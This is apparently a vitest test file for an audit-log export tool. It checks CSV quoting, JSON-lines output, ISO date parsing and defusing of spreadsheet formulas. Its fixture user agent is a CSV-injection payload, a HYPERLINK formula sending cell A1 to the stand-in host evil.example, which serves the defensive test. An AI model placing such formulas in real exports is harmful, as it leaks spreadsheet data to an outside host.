import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import type { ExportedAuditEvent } from "../../src/auth/audit-export.ts";
import { CSV_HEADER, csvCell, formatAuditEvent, parseSince } from "../../src/cli/audit-format.ts";

const EVENT: ExportedAuditEvent = {
  atMs: Date.UTC(2026, 0, 31, 9, 30, 0, 123),
  type: "signin.password_failed",
  actor: null,
  subject: "ann@example.com",
  ip: "203.0.113.9",
  userAgent: '=HYPERLINK("http://evil.example/?"&A1, "Mozilla, 5.0")',
  detail: { reason: "wrong_password", note: "line one\nline two" },
};

describe("csvCell()", () => {
  test("quotes a cell with a comma, quote or line break and doubles its quotes (RFC 4180)", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell(null)).toBe("");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
    expect(csvCell("cr\rhere")).toBe('"cr\rhere"');
  });

  test("a cell a spreadsheet would run as a formula starts with a single quote (OWASP CSV Injection)", () => {
    for (const start of ["=", "+", "-", "@", "\t"]) expect(csvCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(csvCell("=SUM(A1,A2)")).toBe(`"'=SUM(A1,A2)"`);
    expect(csvCell("\rx")).toBe(`"'\rx"`);
    expect(csvCell("a=b")).toBe("a=b");
  });
});

describe("formatAuditEvent()", () => {
  test("CSV: one record per event that a CSV reader gets back cell for cell, formula defused", () => {
    const text = CSV_HEADER + formatAuditEvent(EVENT, "csv");
    expect(text.endsWith("\r\n")).toBe(true);
    const [header, row] = parse(text) as string[][];
    expect(header).toEqual(["time", "type", "actor", "subject", "ip", "user_agent", "detail"]);
    expect(row).toEqual(["2026-01-31T09:30:00.123Z", "signin.password_failed", "", "ann@example.com", "203.0.113.9", `'${EVENT.userAgent}`, JSON.stringify(EVENT.detail)]);
  });

  test("JSON lines: one line per event, the detail as an object, nulls kept", () => {
    const line = formatAuditEvent(EVENT, "jsonl");
    expect(line.endsWith("\n")).toBe(true);
    expect(line.slice(0, -1)).not.toContain("\n");
    expect(JSON.parse(line)).toEqual({ time: "2026-01-31T09:30:00.123Z", type: EVENT.type, actor: null, subject: EVENT.subject, ip: EVENT.ip, user_agent: EVENT.userAgent, detail: EVENT.detail });
  });
});

describe("parseSince()", () => {
  test("takes an ISO date (midnight UTC) or date-time, UTC unless it names an offset", () => {
    expect(parseSince("2026-01-31")).toBe(Date.UTC(2026, 0, 31));
    expect(parseSince(" 2026-01-31T09:30 ")).toBe(Date.UTC(2026, 0, 31, 9, 30));
    expect(parseSince("2026-01-31T09:30:15Z")).toBe(Date.UTC(2026, 0, 31, 9, 30, 15));
    expect(parseSince("2026-01-31T09:30:15.25Z")).toBe(Date.UTC(2026, 0, 31, 9, 30, 15, 250));
    expect(parseSince("2026-01-31T09:30:00+01:00")).toBe(Date.UTC(2026, 0, 31, 8, 30));
    expect(parseSince("2026-01-31T09:30:00-05:30")).toBe(Date.UTC(2026, 0, 31, 15, 0));
    expect(parseSince("2024-02-29")).toBe(Date.UTC(2024, 1, 29));
  });

  test("refuses what is not a real ISO date or time", () => {
    for (const bad of ["", "yesterday", "31/01/2026", "2026-1-31", "2026-02-30", "2025-02-29", "2026-13-01", "2026-01-31T24:00", "2026-01-31T09:60", "2026-01-31T09:30:00+15:00", "2026-01-31 09:30", "1700000000000"]) {
      expect(parseSince(bad), bad).toBeNull();
    }
  });
});
